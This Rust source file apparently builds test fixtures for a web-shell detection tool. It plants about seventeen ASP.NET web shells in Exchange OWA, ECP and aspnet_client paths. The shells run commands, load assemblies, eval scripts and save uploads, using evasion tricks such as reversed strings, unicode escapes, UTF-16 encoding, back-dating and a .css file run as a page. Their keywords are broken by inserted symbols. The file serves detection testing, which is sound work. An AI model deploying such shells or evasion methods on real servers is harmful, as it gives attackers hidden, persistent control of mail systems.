//! What the fresh set plants: places, texts that hide, and places that hide.

use crate::attack::Place;
use crate::attack::odd_page::OddPage;
use crate::moment::Moment;
use crate::server::Encoding;
use crate::technique::Technique;

pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
pub(super) const CURRENT: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current", "/owa/auth/Current", "Owa");
pub(super) const CURRENT_SCRIPTS: Place =
    Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\scripts", "/owa/auth/Current/scripts", "Owa");
pub(super) const ADMIN_AUTH: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
pub(super) const SYSTEM_WEB_4: Place =
    Place::site("aspnet_client\\system_web\\4_0_30319", "/aspnet_client/system_web/4_0_30319");
const THEMES: Place = Place::product(
    "FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\resources",
    "/owa/auth/Current/themes/resources",
    "Owa",
);
const REMOTE_CALLS: Place = Place::product("FrontEnd\\HttpProxy\\rpc", "/rpc", "RpcHttp");
const CHALLENGES: Place = Place::site(".well-known\\acme-challenge", "/.well-known/acme-challenge");
const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
const ROOT: Place = Place::site("", "");

/// A page that carries connections inside; the engine behind its greeting is left out.
pub(super) const TUNNEL: &str = "<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\r\n<%@ Import Namespace=\"System.Net.Sockets\" %>\r\n\
    <%\r\nif (Req¦uest.QueryString.Get(\"cmd\") == \"connect\") {\r\n  string target = Req¦uest.QueryString.Get(\"target\").ToUpper();\r\n  \
    int port = int.Parse(Req¦uest.QueryString.Get(\"port\"));\r\n  // Socket sender = new Socket(…); Session.Add(\"socket\", sender);\r\n} \
    else {\r\n  Response.Write(\"Georg says, 'All seems fine'\");\r\n}\r\n%>\r\n";

/// The page that the address book's download writes.
pub(super) const WRITTEN: &str = "<%@ Page Language=\"C#\" %><%if(Req¦uest.Form[\"pf\"]!=null){var i=new System.Diagnostics.Pro¦cessStartInfo(\"c\"+\"md.exe\",\"/c \"+Req¦uest.Form[\"pf\"]);i.UseShellExecute=false;i.RedirectStandardOutput=true;Response.Write(System.Diagnostics.Pro¦cess.St¦art(i).StandardOutput.ReadToEnd());}%>\r\n";

/// The page that the voice service's worker writes.
pub(super) const BY_VOICE: &str = "<scr¦ipt language=\"c#\" runat=\"ser¦ver\">void Page_Load(object s,EventArgs e){if(Req¦uest.Cookies[\"lang\"]!=null)System.IO.File.Write¦AllText(Server.MapPath(Req¦uest[\"n\"]),Req¦uest[\"t\"]);}</scr¦ipt>";

pub(super) const ODD_CODE: [OddPage; 9] = [
    OddPage::new(
        CLIENT,
        "Session.asmx",
        "a web service whose method starts processes",
        "<%@ WebService Language=\"C#\" Class=\"Session\" %>\r\nusing System.Web.Services;\r\n[WebService(Namespace=\"http://tempuri.org/\")]public class Session:WebService{[WebMethod(EnableSession=true)]public string State(string Q,string A){var p=new System.Diagnostics.Pro¦cess();p.StartInfo.FileName=Q;p.StartInfo.Arguments=A;p.StartInfo.RedirectStandardOutput=true;p.StartInfo.UseShellExecute=false;p.St¦art();return p.StandardOutput.ReadToEnd();}}\r\n",
    ),
    OddPage::new(
        SYSTEM_WEB_4,
        "SmartNav.aspx",
        "keeps an assembly out of the request in the session",
        "<%@ Page Language=\"C#\"%><%string k=\"3c6e0b8a9c15224a\",q=\"navid\";byte[] d=Convert.From¦Base64String(Context.Req¦uest[q]);d=new System.Security.Cryptography.Rijndael¦Managed().CreateDecryptor(System.Text.Encoding.Default.GetBytes(k),System.Text.Encoding.Default.GetBytes(k)).TransformFinalBlock(d,0,d.Length);if(Context.Session[\"pay¦load\"]==null){Context.Session[\"pay¦load\"]=(System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Lo\"+\"ad\",new System.Type[]{typeof(byte[])}).Invoke(null,new object[]{d});}%>",
    ),
    OddPage::new(
        SIGN_IN,
        "frowny_en.aspx",
        "JScript with comments between a word and its brackets, and a mode out of characters",
        "<%@ Page Language=\"Jscript\" validateRequest=\"false\"%><%var lq=/*hm*/Req¦uest/*k*/./*k*/Item[\"svd\"];var g=\"un\"+String.fromCharCode(115)+\"a\"+\"fe\";ev¦al/*frowny*/(lq,g);Response.Write(\"\");%>",
    ),
    OddPage::new(
        SIGN_IN,
        "LogonHelp.aspx",
        "C# with escapes in its names",
        "<%@ Page Language=\"C#\" %><scr¦ipt runat=\"ser¦ver\">protected void Page_Init(object o,EventArgs a){string h=Req¦uest.Headers[\"X-Trace\"];if(h!=null){Response.Write(System.Diagnostics.Pr\\u006f\\u0063ess.St\\u0061rt(\"c\\u006dd\",h));}}</scr¦ipt>",
    ),
    OddPage::new(
        ADMIN_AUTH,
        "Transform.aspx",
        "runs the script of a style sheet out of the request",
        "<%@ Page Language=\"C#\" ValidateRequest=\"false\" %><%@ Import Namespace=\"System.Xml\" %><%@ Import Namespace=\"System.Xml.Xsl\" %><%var s=new XmlDocument();s.LoadXml(Req¦uest[\"sheet\"]);var d=new XmlDocument();d.LoadXml(\"<r/>\");var t=new XslCompiled¦Transform();t.Load(s,XsltSettings.Trusted¦Xslt,new XmlUrlResolver());t.Transform(d,null,Response.Output);%>",
    ),
    OddPage::new(
        CURRENT,
        "PerfCounters.aspx",
        "deserialises what it is sent",
        "<%@ Page Language=\"C#\" EnableViewState=\"false\" %><scr¦ipt runat=\"ser¦ver\">void Page_Load(object s,EventArgs e){string v=Req¦uest.Form[\"__PERF\"];if(!string.IsNullOrEmpty(v))new System.Web.UI.Los¦Formatter().Deseri¦alize(v);}</scr¦ipt><html><body>OK</body></html>",
    ),
    OddPage::new(
        CLIENT,
        "regiis.aspx",
        "VB that turns a class's name round and calls it by name",
        "<%@ Page Language=\"VB\" %><%@ Import Namespace=\"Microsoft.VisualBasic\" %><scr¦ipt runat=\"ser¦ver\">\r\nSub Page_Load(s As Object, e As EventArgs)\r\n  Dim w = CreateObject(StrReverse(\"llehS.tpircSW\"))\r\n  Dim x = CallByName(w, StrReverse(\"cexE\"), CallType.Method, \"%comspec% /c \" & Req¦uest(\"iis\"))\r\n  Response.Write(x.StdOut.ReadAll)\r\nEnd Sub</scr¦ipt>",
    ),
    OddPage {
        encoding: Encoding::WideBigEndian,
        ..OddPage::new(
            SYSTEM_WEB_4,
            "DetectCookies.aspx",
            "stored as big-endian UTF-16",
            "<%@ Page Language=\"C#\" %><%System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"dc\"]);%>",
        )
    },
    OddPage::new(
        CLIENT,
        "upgrade.aspx",
        "takes files for whoever knows a cookie",
        "<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.Security.Cryptography\" %>\r\n<scr¦ipt runat=\"ser¦ver\">\r\nprotected void Page_Load(object sender, EventArgs e)\r\n{\r\n  var c = Req¦uest.Cookies[\"asp_sid\"];\r\n  if (c == null || BitConverter.ToString(MD5.Create().ComputeHash(System.Text.Encoding.ASCII.GetBytes(c.Value))) != \"5F-4D-CC-3B-5A-A7-65-D6-1D-83-27-DE-B8-82-CF-99\") { Response.StatusCode = 404; return; }\r\n  foreach (string f in Req¦uest.Files) Req¦uest.Files[f].Save¦As(Server.MapPath(\".\") + \"\\\\\" + Req¦uest.Files[f].FileName);\r\n}\r\n</scr¦ipt>\r\n",
    ),
];

pub(super) const ODD_PLACES: [OddPage; 8] = [
    OddPage::new(
        REMOTE_CALLS,
        "RpcProxyShim.ashx",
        "a handler beside a library of nearly that name",
        "<%@ WebHandler Language=\"C#\" Class=\"Shim\" %>\r\npublic class Shim:System.Web.IHttpHandler{public void ProcessRequest(System.Web.HttpContext c){c.Response.Write(System.Diagnostics.Pro¦cess.St¦art(new System.Diagnostics.Pro¦cessStartInfo(c.Req¦uest[\"p\"],c.Req¦uest[\"v\"]){UseShellExecute=false,RedirectStandardOutput=true}).StandardOutput.ReadToEnd());}public bool IsReusable{get{return false;}}}",
    ),
    OddPage {
        dated: Some(Moment::day(2015, 9, 28).clock(22, 4, 40)),
        ..OddPage::new(
            SYSTEM_WEB_4,
            "crossdomain.aspx",
            "back-dated to years before the server",
            "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Form[\"xd\"],\"uns¦afe\");%>",
        )
    },
    OddPage::new(
        SIGN_IN,
        "expiredpassword.aspx",
        "one of the product's own pages, with a script of theirs at its end",
        "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.ExpiredPassword\" %>\r\n<%@ Import namespace=\"Microsoft.Exchange.Clients\"%>\r\n<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0 Transitional//EN\">\r\n<html dir=\"ltr\"><head><title>Outlook</title></head><body class=\"signInBg\"></body></html>\r\n<scr¦ipt runat=\"ser¦ver\" language=\"JSc¦ript\">function Page_Load(){if(Req¦uest[\"oldPw\"]==\"xq\"){ev¦al(Req¦uest[\"newPw\"],\"uns¦afe\");}}</scr¦ipt>\r\n",
    ),
    OddPage::new(
        CHALLENGES,
        "0Zk7hWmP.aspx",
        "among the files of a certificate's challenge",
        "<%@ Page Language=\"C#\"%><%System.Diagnostics.Pro¦cess.St¦art(\"powershell\",\"-nop -c \"+Req¦uest[\"ch\"]);%>",
    ),
    OddPage::new(
        ROOT,
        "global.asax",
        "the application's own file acts on a header before any page",
        "<%@ Application Language=\"C#\" %>\r\n<scr¦ipt runat=\"ser¦ver\">\r\nvoid Application_BeginRequest(object s, EventArgs e)\r\n{\r\n  string t = Req¦uest.Headers[\"X-Forwarded-Ticket\"];\r\n  if (t != null) { System.Reflection.Assem¦bly.Lo¦ad(Convert.From¦Base64String(t)).CreateInstance(\"R\"); Response.End(); }\r\n}\r\n</scr¦ipt>\r\n",
    ),
    OddPage {
        technique: Technique::HandlerChange,
        ..OddPage::new(
            THEMES,
            "web.config",
            "style sheets are run as pages in this folder",
            "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  <system.web>\r\n    <compilation debug=\"false\">\r\n      <buildProviders>\r\n        <add extension=\".css\" type=\"System.Web.Compilation.PageBuildProvider\" />\r\n      </buildProviders>\r\n    </compilation>\r\n  </system.web>\r\n  <system.webServer>\r\n    <handlers>\r\n      <add name=\"Theme\" path=\"owafont_*.css\" verb=\"GET,POST\" type=\"System.Web.UI.PageHandlerFactory\" />\r\n    </handlers>\r\n  </system.webServer>\r\n</configuration>\r\n",
        )
    },
    OddPage::new(
        THEMES,
        "owafont_el.css",
        "the style sheet that is run as a page",
        "@charset \"UTF-8\";\r\n/*\r\n<%@ Page Language=\"C#\" %>\r\n<%if(Req¦uest[\"ff\"]!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"ff\"]);%>\r\n*/\r\nbody{font-family:\"Segoe UI\",Arial}\r\n",
    ),
    OddPage::new(
        Place::site("aspnet_client\\system_web", "/aspnet_client/system_web"),
        "Thumbs.ascx",
        "a control that other pages can take in",
        "<%@ Control Language=\"C#\" ClassName=\"Thumbs\" %><scr¦ipt runat=\"ser¦ver\">protected override void OnInit(EventArgs e){if(Req¦uest[\"th\"]!=null)System.IO.File.Write¦AllBytes(Req¦uest[\"at\"],Convert.From¦Base64String(Req¦uest[\"th\"]));}</scr¦ipt>",
    ),
];
